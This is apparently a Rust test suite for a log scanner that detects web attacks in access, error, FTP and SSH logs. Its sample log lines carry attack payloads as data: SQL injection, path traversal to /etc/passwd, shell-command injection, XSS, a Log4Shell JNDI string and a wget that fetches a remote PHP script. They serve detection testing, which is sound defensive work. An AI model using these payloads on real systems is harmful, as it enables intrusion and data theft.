//! Every format and packing from a faithful sample: recognised by itself, and its attack found.

use std::io::{Cursor, Read, Write};

use logscan::scan::Silent;
use logscan::{Class, Input, Options, Outcome, RuleSet};

pub fn rules() -> &'static RuleSet {
    static RULES: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
    RULES.get_or_init(|| RuleSet::usual().unwrap())
}

pub fn input(name: &str, bytes: impl Into<Vec<u8>>) -> Input {
    let reader: Box<dyn Read + Send> = Box::new(Cursor::new(bytes.into()));
    Input {
        name: name.into(),
        reader: Ok(reader),
        year: Some(2021),
    }
}

pub fn scan(bytes: impl Into<Vec<u8>>, options: &Options) -> Outcome {
    logscan::scan([input("x.log", bytes)], options, rules(), &Silent)
}

pub const PLAIN: &str = "192.0.2.1 - - [17/May/2015:10:05:03 +0000] \"GET /index.html HTTP/1.1\" 200 512\n\
192.0.2.9 - - [17/May/2015:10:05:04 +0000] \"GET /item?id=1%27%20union%20select%201,2-- HTTP/1.1\" 500 99\n";

#[test]
fn each_format_is_recognised_and_read() {
    for (format, class, sample) in [
        ("combined", Class::Sqli, PLAIN.to_owned()),
        ("combined", Class::Scanner, "www.example.jp:443 192.0.2.9 - - [17/May/2015:10:05:04 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.00 (Nikto/2.1.6)\"\n".into()),
        ("iis-w3c", Class::Traversal, "#Software: Microsoft Internet Information Services 8.5\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n2015-05-17 10:05:03 10.0.0.1 GET /a.asp f=..%5c..%5cboot.ini 80 - 192.0.2.9 Mozilla/4.0 200\n".into()),
        ("iis", Class::Oscmd, "192.0.2.9, -, 5/17/2015, 10:05:03, W3SVC1, WEB, 10.0.0.1, 15, 200, 3000, 200, 0, GET, /scripts/x.asp, a=;cat%20/etc/passwd,\n".into()),
        ("json", Class::Xss, "{\"ts\":1646861401.5,\"request\":{\"remote_ip\":\"192.0.2.9\",\"method\":\"GET\",\"uri\":\"/?q=%3Cscript%3Ealert(1)%3C/script%3E\",\"headers\":{}},\"size\":9,\"status\":200}\n".into()),
        ("alb", Class::Jndi, "http 2018-07-02T22:23:00.186641Z app/lb/1 192.0.2.9:2817 10.0.0.1:80 0.0 0.0 0.0 200 200 34 366 \"GET http://www.example.com:80/?x=${jndi:ldap://x/a} HTTP/1.1\" \"curl/7.46.0\" - - arn \"Root=1\" \"-\" \"-\"\n".into()),
        ("error-log", Class::Modsec, "[Sun May 17 10:05:03 2015] [error] [client 192.0.2.9] ModSecurity: Access denied with code 403 (phase 2). [id \"950901\"] [msg \"SQL Injection\"] [uri \"/a.php\"]\n".into()),
        ("vsftpd", Class::AuthLogin, "Mon Jun 8 12:08:53 2020 [pid 27244] [user] FAIL LOGIN: Client \"::ffff:192.0.2.9\"\n".repeat(12)),
        ("xferlog", Class::AuthFile, "Thu Sep  2 09:52:00 2021 1 192.0.2.9 100 /pub/file.zip b _ o a x@y ftp 0 * c\n".repeat(12)),
        ("syslog", Class::AuthLogin, "Feb 12 14:10:21 host sshd[16378]: Failed password for root from 192.0.2.9 port 53502 ssh2\n".repeat(12)),
        ("json", Class::AuthLogin, "{\"MESSAGE\":\"Failed password for root from 192.0.2.9 port 1 ssh2\",\"SYSLOG_IDENTIFIER\":\"sshd\",\"_PID\":\"1\",\"__REALTIME_TIMESTAMP\":\"1646861401000000\"}\n".repeat(12)),
    ] {
        let o = scan(sample.clone(), &Options::default());
        let file = &o.files[0];
        assert_eq!((file.format.as_str(), file.recognised, file.bad), (format, true, 0), "{sample}");
        assert!(o.classes.contains_key(&class), "{class:?} in {:?}\n{sample}", o.classes);
    }
}

#[test]
fn a_given_layout_is_used() {
    let layout = "$remote_addr [$time_local] \"$request\" $status \"$http_cookie\"";
    let options = Options {
        format: logscan::format::Format::named(layout),
        ..Options::default()
    };
    let o = scan(
        "192.0.2.9 [17/May/2015:10:05:04 +0000] \"GET / HTTP/1.1\" 200 \"s=' or '1'='1\"\n",
        &options,
    );
    assert_eq!(o.findings[0].place, logscan::rule::Place::Cookie);
}

#[test]
fn packed_files_are_known_by_their_content() {
    let gz = {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        e.write_all(PLAIN.as_bytes()).unwrap();
        let one = e.finish().unwrap();
        [one.clone(), one].concat() // two members, as `cat a.gz b.gz` makes
    };
    let bz2 = {
        let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
        e.write_all(PLAIN.as_bytes()).unwrap();
        e.finish().unwrap()
    };
    // Made from PLAIN with `xz` and (two frames) `zstd`.
    let xz = include_bytes!("../fixtures/plain.xz").to_vec();
    let zst = include_bytes!("../fixtures/plain.zst").to_vec();
    for (packing, bytes, lines) in [
        ("gzip", gz, 4),
        ("bzip2", bz2, 2),
        ("xz", xz, 2),
        ("zstd", zst, 4),
    ] {
        let o = scan(bytes, &Options::default());
        assert_eq!(
            (o.files[0].packing.as_str(), o.lines),
            (packing, lines),
            "{:?}",
            o.files[0].error
        );
        assert_eq!(o.findings.len() as u64, lines / 2);
    }
}

#[test]
fn broken_mixed_and_missing_input_is_counted_and_never_stops_the_scan() {
    let mixed = format!(
        "{PLAIN}\u{0}\u{1}garbage\nnot a log line\n{{\"remote_addr\":\"192.0.2.3\",\"request\":\"GET /?f=../../../etc/passwd HTTP/1.1\",\"status\":200,\"time_iso8601\":\"2015-05-17T10:05:03Z\"}}\n{PLAIN}"
    );
    let o = scan(mixed, &Options::default());
    assert_eq!((o.files[0].bad, o.files[0].bad_at.clone()), (2, vec![3, 4]));
    assert_eq!(
        o.findings.iter().map(|f| f.line).collect::<Vec<_>>(),
        [2, 5, 7]
    );
    let missing = Input {
        name: "gone".into(),
        reader: Err(std::io::Error::from(std::io::ErrorKind::NotFound)),
        year: None,
    };
    let o = logscan::scan(
        [missing, input("b", PLAIN)],
        &Options::default(),
        rules(),
        &Silent,
    );
    assert!(o.files[0].error.is_some());
    assert_eq!((o.findings.len(), o.findings[0].file), (1, 1));
}

#[test]
fn options_narrow_and_allow() {
    let since = Options {
        since: logscan::time::iso(b"2015-05-17T10:05:04Z"),
        ..Options::default()
    };
    assert_eq!(
        (
            scan(PLAIN, &since).outside,
            scan(PLAIN, &since).findings.len()
        ),
        (1, 1)
    );
    let until = Options {
        until: since.since,
        ..Options::default()
    };
    assert!(scan(PLAIN, &until).findings.is_empty());
    let mut allowed = Options::default();
    allowed.allow.add("192.0.2.9");
    assert_eq!(
        (
            scan(PLAIN, &allowed).allowed,
            scan(PLAIN, &allowed).findings.len()
        ),
        (1, 0)
    );
    let put =
        "192.0.2.9 - - [17/May/2015:10:05:04 +0000] \"POST /form HTTP/1.1\" 500 9\n".repeat(12);
    assert!(scan(put.clone(), &Options::default()).classes.is_empty());
    let detail = Options {
        level: logscan::Level::Detail,
        ..Options::default()
    };
    assert!(scan(put, &detail).classes.contains_key(&Class::DetailSql));
    let front =
        "192.0.2.9 - - [17/May/2015:10:05:04 +0000] \"GET /_vti_bin/shtml.exe HTTP/1.1\" 404 9\n";
    assert!(scan(front, &Options::default()).classes.is_empty());
    assert!(
        scan(front, &detail)
            .classes
            .contains_key(&Class::DetailFrontPage)
    );
    let uploaded = "192.0.2.9 - - [17/May/2015:10:05:04 +0000] \"PUT /x.txt HTTP/1.1\" 201 9\n";
    assert!(
        scan(uploaded, &detail)
            .classes
            .contains_key(&Class::DetailPut)
    );
    let same =
        "192.0.2.9 - - [17/May/2015:10:05:04 +0000] \"GET /i?f=../../etc/passwd HTTP/1.1\" 404 9\n"
            .repeat(25);
    assert!(scan(same, &detail).classes.contains_key(&Class::DetailIp));
}

#[test]
fn modsecurity_marks_the_finding_of_the_same_request() {
    let error = "[Sun May 17 10:05:04 2015] [error] [client 192.0.2.9] ModSecurity: Access denied with code 403 (phase 2). [id \"950901\"] [msg \"SQL\"] [uri \"/item\"]\n";
    let o = logscan::scan(
        [input("access", PLAIN), input("error", error)],
        &Options::default(),
        rules(),
        &Silent,
    );
    assert_eq!(o.findings.len(), 1);
    assert_eq!(
        o.findings[0].modsec,
        Some(logscan::outcome::Behavior::Denied)
    );
    assert_eq!(
        o.findings[0].likelihood,
        logscan::outcome::Likelihood::Unlikely
    );
}

#[test]
fn likelihood_reads_size_habit_and_what_came_after() {
    let mut log = String::new();
    for s in [500, 510, 505, 512] {
        log += &format!(
            "192.0.2.1 - - [17/May/2015:10:00:00 +0000] \"GET /item?id=1 HTTP/1.1\" 200 {s}\n"
        );
    }
    log += "192.0.2.9 - - [17/May/2015:10:01:00 +0000] \"GET /item?id=-1%20union%20select%20name,pass%20from%20users-- HTTP/1.1\" 200 9000\n";
    log += "192.0.2.9 - - [17/May/2015:10:02:00 +0000] \"GET /item?id=1%20and%201=2 HTTP/1.1\" 200 505\n";
    log += "192.0.2.8 - - [17/May/2015:10:03:00 +0000] \"GET /cgi?x=;wget%20http://203.0.113.5/s.php HTTP/1.1\" 200 10\n";
    log += "192.0.2.8 - - [17/May/2015:10:04:00 +0000] \"GET /data/s.php?a=b HTTP/1.1\" 200 10\n";
    let o = scan(log, &Options::default());
    let by = |line: u64| o.findings.iter().find(|f| f.line == line).unwrap();
    use logscan::outcome::{Likelihood, Reason};
    assert_eq!(by(5).likelihood, Likelihood::Likely);
    assert!(by(5).reasons.contains(&Reason::UnusualSize));
    assert!(by(6).reasons.contains(&Reason::UsualSize));
    assert_eq!(
        (
            by(7).likelihood,
            by(7).reasons.contains(&Reason::NewFileUsed)
        ),
        (Likelihood::Likely, true)
    );
}
